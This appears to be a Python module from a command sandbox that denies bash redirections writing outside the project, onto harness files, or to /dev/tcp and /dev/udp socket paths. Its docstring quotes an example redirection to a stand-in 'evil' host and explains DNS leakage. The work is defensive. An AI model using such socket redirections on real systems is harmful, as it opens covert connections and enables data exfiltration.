"""Redirections in a bash script: writes must land inside the project, never on harness files,
and no redirection in either direction may open a network connection.

bash itself opens ``/dev/tcp/HOST/PORT`` and ``/dev/udp/HOST/PORT`` as sockets, whatever the
file system holds there: ``cat < /dev/tcp/evil/80`` connects, and the host name alone carries
data out through DNS. So every redirection's target is checked, reads too.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

from .cwd import locate
from .denial import no
from .paths import PathPolicy
from .words import literal_prefix, static_value

WRITE_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>", "<>", ">&", "&>|"})
SAFE_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"})
NETWORK_DEVICES = ("/dev/tcp", "/dev/udp")
"""Paths bash opens as sockets in a redirection (a prefix match on the expanded word)."""


def check_redirect(node: Any, paths: PathPolicy, cwd: Path | None) -> None:
    """Deny a ``file_redirect`` node that writes where ``paths`` does not allow (relative
    targets taken from ``cwd``), or that may open a socket."""
    destination = node.child_by_field_name("destination")
    if destination is None:
        raise no("redirect", "a redirection without a target")
    operator = _write_operator(node)
    if operator == ">&" and destination.type == "number":
        return  # 2>&1
    target = static_value(destination)
    if operator is not None and target is None:
        raise no("redirect-dynamic", "redirect to a literal path inside the project")
    _network(destination, target)
    if operator is None or target is None:
        return  # reads (<, <<<) are fine; the file tools' read rules do not apply to Bash
    if target in SAFE_TARGETS or target == "-":
        return
    if target.startswith("~"):
        raise no("redirect-outside", f"{target}: ~ depends on the shell; write inside the project")
    path = locate(target, cwd, "the redirection to")
    if not paths.allows(path) or paths.is_protected(path):
        raise no(
            "redirect-outside",
            f"writing to {target} is not allowed: it is outside the "
            "project or belongs to the harness",
        )


def _network(destination: Any, target: str | None) -> None:
    """Deny a target that is, or may expand to, one of bash's socket paths."""
    if destination.type == "process_substitution":
        return  # bash opens /dev/fd/N; the commands inside are checked on their own
    if target is None:
        known = literal_prefix(destination)
        if any(d.startswith(known[: len(d)]) for d in NETWORK_DEVICES):
            raise no(
                "redirect-network",
                f"{destination.text.decode(errors='replace')}: a redirection from a path the "
                "policy cannot read may be /dev/tcp/... (a network connection); start the path "
                'with a literal directory (< "./$f", < "src/$f") or use cat "$f" |',
            )
        return
    if os.path.normpath(target).startswith(NETWORK_DEVICES):
        raise no(
            "redirect-network",
            f"{target}: bash opens /dev/tcp and /dev/udp as network connections; "
            "the project's commands may not open sockets",
        )


def _write_operator(node: Any) -> str | None:
    """The redirection's operator when it writes, else None."""
    return next(
        (
            c.text.decode()
            for c in node.children
            if c.type in WRITE_REDIRECTS or c.text.decode() in WRITE_REDIRECTS
        ),
        None,
    )
